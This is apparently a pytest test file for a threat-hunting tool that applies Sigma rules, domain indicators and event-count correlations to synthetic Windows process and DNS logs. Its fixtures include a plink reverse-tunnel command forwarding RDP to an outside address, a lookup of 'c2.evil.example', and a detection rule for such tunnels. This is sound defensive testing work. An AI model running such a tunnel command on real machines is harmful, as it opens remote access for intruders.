"""A whole hunt: files read by the sources stage, rules and indicators matched, correlations."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow as pa

from detect_helpers import SYSMON, compile_yaml, process
from geobuk.detect.hunt import Attribution, hunt, sort_findings
from geobuk.detect.indicators import IndicatorIndex
from geobuk.detect.rulesets import load_ruleset

RULE = """
title: Plink reverse tunnel
id: 0b7f5a52-6a3e-4a3c-9d8e-6c2f1b7a9e01
status: test
actor: Andariel
logsource:
    category: process_creation
    product: windows
detection:
    sel:
        Image|endswith: '\\\\plink.exe'
        CommandLine|contains: ' -R '
    condition: sel
level: high
"""

CORRELATION = """
title: Many tunnels from one host
id: 7c1d2e3f-4a5b-4c6d-8e9f-0a1b2c3d4e5f
status: test
correlation:
    type: event_count
    rules:
        - 0b7f5a52-6a3e-4a3c-9d8e-6c2f1b7a9e01
    group-by:
        - Computer
    timespan: 10m
    condition:
        gte: 2
level: critical
"""


def write_jsonl(path: Path, events: list[dict]) -> Path:
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    return path


def tunnel(host: str, minute: int) -> dict:
    return process(r"C:\t\plink.exe", "plink -R 4444:127.0.0.1:3389 x@192.0.2.4", Computer=host,
                   UtcTime=f"2025-01-01 10:{minute:02d}:00.000")


def test_hunt_reports_rule_indicator_and_correlation_findings(tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    write_jsonl(logs / "a.jsonl", [tunnel("ws-1", 0), tunnel("ws-1", 3), tunnel("ws-2", 0),
                                   process(r"C:\x\notepad.exe", "notepad", Computer="ws-2")])
    write_jsonl(logs / "b.jsonl", [{"Channel": SYSMON, "EventID": "22", "QueryName": "c2.evil.example",
                                    "Computer": "ws-3"}])
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "r.yml").write_text(RULE + "---" + CORRELATION)
    ruleset = load_ruleset([tmp_path / "rules"])
    index = IndicatorIndex.from_table(pa.table({"kind": ["domain"], "value": ["evil.example"],
                                                "indicator_id": ["indicator--1"], "name": ["evil"]}))
    attribution = Attribution(rule_actor=lambda r: (getattr(r, "extra", {}) or {}).get("actor"),
                              indicator_actor={"indicator--1": "TraderTraitor"})
    result = hunt([logs], ruleset, indicators=index, attribution=attribution, workers=1)
    assert result.events == 5 and result.sources == 2
    kinds = sorted((f.kind, f.host) for f in result.findings)
    # The base rule feeds the correlation (generate: false by default), so only the correlation reports.
    assert kinds == [("correlation", "ws-1"), ("indicator", "ws-3")]
    corr = next(f for f in result.findings if f.kind == "correlation")
    assert corr.level == "critical" and len(corr.related) == 2
    ind = next(f for f in result.findings if f.kind == "indicator")
    assert ind.actor == "TraderTraitor" and ind.indicator["value"] == "evil.example"
    assert ind.event["QueryName"] == "c2.evil.example" and ind.source_file.endswith("b.jsonl")


def test_base_rule_reports_when_not_correlated_and_min_level_filters(tmp_path):
    logs = write_jsonl(tmp_path / "a.jsonl", [tunnel("ws-1", 0)])
    ruleset = compile_yaml(RULE)
    result = hunt([logs], ruleset, workers=1,
                  attribution=Attribution(rule_actor=lambda r: r.extra.get("actor")))
    [finding] = result.findings
    assert (finding.kind, finding.actor, finding.record_id) == ("sigma", "Andariel", "1")
    assert finding.event["Image"].endswith("plink.exe")
    assert hunt([logs], ruleset, workers=1, min_level="critical").findings == []


def test_corrupt_lines_are_reported_and_the_rest_is_hunted(tmp_path):
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps(tunnel("ws-1", 0)) + "\n{not json\n" + json.dumps(tunnel("ws-1", 1)) + "\n")
    result = hunt([path], compile_yaml(RULE), workers=1)
    assert len(result.findings) == 2
    assert any("a.jsonl" in p and "2" in p for p in result.problems)


def test_unresolvable_correlation_is_a_problem_not_a_crash(tmp_path):
    (tmp_path / "c.yml").write_text(CORRELATION.replace("0b7f5a52-6a3e-4a3c-9d8e-6c2f1b7a9e01",
                                                        "no-such-rule"))
    (tmp_path / "r.yml").write_text(RULE)
    logs = write_jsonl(tmp_path / "a.jsonl", [tunnel("ws-1", 0)])
    result = hunt([logs], load_ruleset([tmp_path / "c.yml", tmp_path / "r.yml"]), workers=1)
    assert [f.kind for f in result.findings] == ["sigma"]
    assert any("Many tunnels" in p for p in result.problems)


def test_sort_puts_most_severe_first():
    ruleset = compile_yaml(RULE)
    assert ruleset.rules
    from geobuk.detect.findings import Finding

    def f(level: str, title: str) -> Finding:
        return Finding("sigma", title, title, level, [], None, None, "x", "1", None, None, {})

    ordered = sort_findings([f("low", "b"), f("critical", "z"), f("high", "a"), f("low", "a")])
    assert [(x.level, x.rule_title) for x in ordered] == [("critical", "z"), ("high", "a"), ("low", "a"),
                                                          ("low", "b")]
